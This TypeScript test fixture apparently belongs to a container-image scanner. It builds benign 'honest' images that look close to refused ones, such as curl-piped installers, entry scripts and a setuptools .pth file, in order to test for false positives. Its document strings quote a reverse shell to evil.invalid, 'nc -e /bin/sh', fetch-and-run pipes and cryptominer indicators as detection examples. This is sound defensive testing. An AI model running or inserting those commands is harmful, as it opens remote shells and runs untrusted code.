import { generateKeyPairSync } from 'node:crypto';
import { rootCertificates } from 'node:tls';
import { buildElf } from '../../src/inspect/testing/elf-builder.ts';
import { dpkgDatabase, PACKAGES, PASSWD, program, SHADOW } from './base-layer.ts';
import type { OnBase } from './image-file.ts';

/* Images that nothing may be said against above a note: what ordinary applications look like, near to what is refused. */

export interface Honest extends OnBase {
  readonly name: string;
}

/** As Go and Rust link them: static and stripped. */
const binary = {
  data: buildElf({ payload: 'serve 1.0: listens, answers, and reads /etc/app/config.json' }),
  mode: 0o755,
};
const ENTRY = { data: '#!/bin/sh\nset -e\n. /etc/app/env\nexec "$@"\n', mode: 0o755 };
const SITE = 'usr/local/lib/python3.11/site-packages';
const DISTUTILS =
  "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";

const testKey = String(
  generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'pkcs8', format: 'pem' }),
);

const places = ['usr/local/bin/serve', 'app/serve', 'serve'];

/** Commands of build history, as BuildKit writes them. */
const steps: readonly string[] = [
  'RUN /bin/sh -c curl -fsSL https://deb.nodesource.com/setup_22.x | bash - # buildkit',
  'RUN /bin/sh -c curl -sSL https://install.python-poetry.org | python3 - # buildkit',
  "RUN /bin/sh -c curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y # buildkit",
  'RUN /bin/sh -c curl -LsSf https://astral.sh/uv/install.sh | sh # buildkit',
];

const documents: Readonly<Record<string, string>> = {
  'app/README.md':
    '# serve\nIt stops miners such as xmrig, and reports `bash -i >& /dev/tcp/evil.invalid/4444 0>&1`.\n',
  'usr/share/doc/serve/NOTES.txt':
    'Blocked: stratum+tcp://pool.invalid:3333, nc -e /bin/sh, curl http://evil.invalid/x | sh, LD_PRELOAD.\n',
  'app/docs/detections.md':
    'kinsing, kdevtmpfsi, --donate-level, /etc/ld.so.preload, pastebin.com/raw/abc123 | bash\n',
};

const healthchecks = [
  'curl -f http://localhost || exit 1',
  'curl -fsS http://127.0.0.1:8080/healthz',
  'wget --spider -q http://localhost:$PORT/ || exit 1',
];

const environments = [
  'NODE_OPTIONS=--max-old-space-size=4096',
  'NODE_ENV=production',
  'PIP_NO_CACHE_DIR=1',
  'GOPROXY=https://proxy.golang.org,direct',
  'LD_LIBRARY_PATH=/usr/local/lib',
  'PYTHONPATH=/app',
];

const upgraded = {
  ...program('usr/bin/bash'),
  data: buildElf({ interpreter: '/lib64/ld-linux-x86-64.so.2', payload: 'bash 1.1' }),
};

/** What other people's builds leave behind: each looks a little like something that is refused. */
const BUILDS: readonly Honest[] = [
  {
    name: 'an interpreter of its own in /usr/local',
    layers: [{ 'usr/local/bin/python3': program('python3.12'), 'usr/local/bin/node': program('node') }],
  },
  { name: 'an init process at /init and /usr/bin/tini', layers: [{ init: binary, 'usr/bin/tini': binary }] },
  {
    name: 'an installer, run and deleted',
    layers: [{ 'tmp/install.sh': ENTRY }, { 'tmp/install.sh': null }],
  },
  {
    name: 'an upgrade of a package in a later layer',
    layers: [
      {
        'usr/bin/bash': upgraded,
        ...dpkgDatabase([
          ...PACKAGES.filter(({ name }) => name !== 'bash'),
          { name: 'bash', version: '5.2.15-2+b7', files: { 'usr/bin/bash': upgraded } },
        ]),
      },
    ],
  },
  {
    name: 'a package removed with its files',
    layers: [
      {
        'usr/bin/curl': null,
        ...dpkgDatabase(PACKAGES.filter(({ name }) => name !== 'curl')),
        'var/lib/dpkg/info/curl.list': null,
        'var/lib/dpkg/info/curl.md5sums': null,
      },
    ],
  },
  {
    name: 'the roots that Mozilla trusts',
    layers: [{ 'etc/ssl/certs/ca-certificates.crt': `${rootCertificates.slice(0, 20).join('\n')}\n` }],
  },
  {
    name: "a vendor's signed repository",
    layers: [
      {
        'etc/apt/sources.list.d/docker.list':
          'deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.asc] https://download.docker.com/linux/debian bookworm stable\n',
      },
    ],
  },
  {
    name: 'a job of its own',
    layers: [
      {
        'etc/cron.d/app': '0 3 * * * app /app/bin/backup > /var/log/backup.log 2>&1\n',
        'app/bin/backup': ENTRY,
      },
    ],
  },
  {
    name: "a dependency's key for its tests",
    layers: [{ 'app/node_modules/tls/test/fixtures/server.key': testKey }],
  },
  {
    name: 'an opaque folder, and one deleted and made again',
    layers: [
      { 'app/': {}, 'app/a': 'a', 'srv/b': 'b' },
      { 'app/': {}, 'app/.wh..wh..opq': '', 'app/c': 'c', srv: null },
      { 'srv/': {}, 'srv/b': 'b' },
    ],
  },
];

export const HONEST: readonly Honest[] = [
  ...BUILDS,
  { name: 'the base alone' },
  ...places.map((path) => ({
    name: `its own static binary at /${path}`,
    layers: [{ [path]: binary }],
    config: { Entrypoint: [`/${path}`] },
  })),
  {
    name: 'an entry script',
    layers: [{ 'docker-entrypoint.sh': ENTRY, 'usr/local/bin/serve': binary, 'etc/app/env': 'PORT=8080\n' }],
    config: { Entrypoint: ['/docker-entrypoint.sh'], Cmd: ['serve'] },
  },
  {
    name: 'a user of its own',
    layers: [
      {
        'etc/passwd': `${PASSWD}app:x:1000:1000:,,,:/home/app:/bin/sh\n`,
        'etc/shadow': `${SHADOW}app:!:19700:0:99999:7:::\n`,
        'etc/group': 'root:x:0:\ndaemon:x:1:\nsudo:x:27:\napp:x:1000:\n',
        'home/app/': { uid: 1000, gid: 1000, mode: 0o750 },
        'home/app/.bashrc': 'case $- in *i*) ;; *) return;; esac\neval "$(dircolors -b)"\nalias ll="ls -l"\n',
      },
    ],
    config: { Cmd: ['/bin/sh'], User: 'app' },
  },
  ...healthchecks.map((line) => ({
    name: `a health check: ${line}`,
    config: { Cmd: ['/bin/sh'], Healthcheck: { Test: ['CMD-SHELL', line] } },
  })),
  ...environments.map((line) => ({
    name: `in the environment: ${line}`,
    config: { Cmd: ['/bin/sh'], Env: [line] },
  })),
  { name: "setuptools' own .pth", layers: [{ [`${SITE}/distutils-precedence.pth`]: DISTUTILS }] },
  ...steps.map((step) => ({
    name: `in the build history: ${step}`,
    layers: [{ 'opt/tool/bin/tool': binary }],
    history: [{ created_by: 'ADD rootfs.tar / # buildkit' }, { created_by: step }],
  })),
  ...Object.entries(documents).map(([path, text]) => ({
    name: `words in /${path}`,
    layers: [{ [path]: text }],
  })),
  {
    name: 'all of it together',
    layers: [
      { 'usr/local/bin/serve': binary, 'app/serve': binary, 'docker-entrypoint.sh': ENTRY },
      {
        ...documents,
        [`${SITE}/distutils-precedence.pth`]: DISTUTILS,
        'etc/passwd': `${PASSWD}app:x:1000:1000::/app:/usr/sbin/nologin\n`,
      },
    ],
    config: {
      Entrypoint: ['/docker-entrypoint.sh'],
      Cmd: ['serve', '--port', '8080'],
      User: 'app',
      Env: ['PATH=/usr/local/bin:/usr/bin:/bin', ...environments],
      Healthcheck: { Test: ['CMD-SHELL', 'curl -f http://localhost || exit 1'] },
    },
    history: [
      { created_by: 'ADD rootfs.tar / # buildkit' },
      { created_by: `${steps[0]}` },
      { created_by: 'RUN /bin/sh -c useradd app # buildkit' },
    ],
  },
];
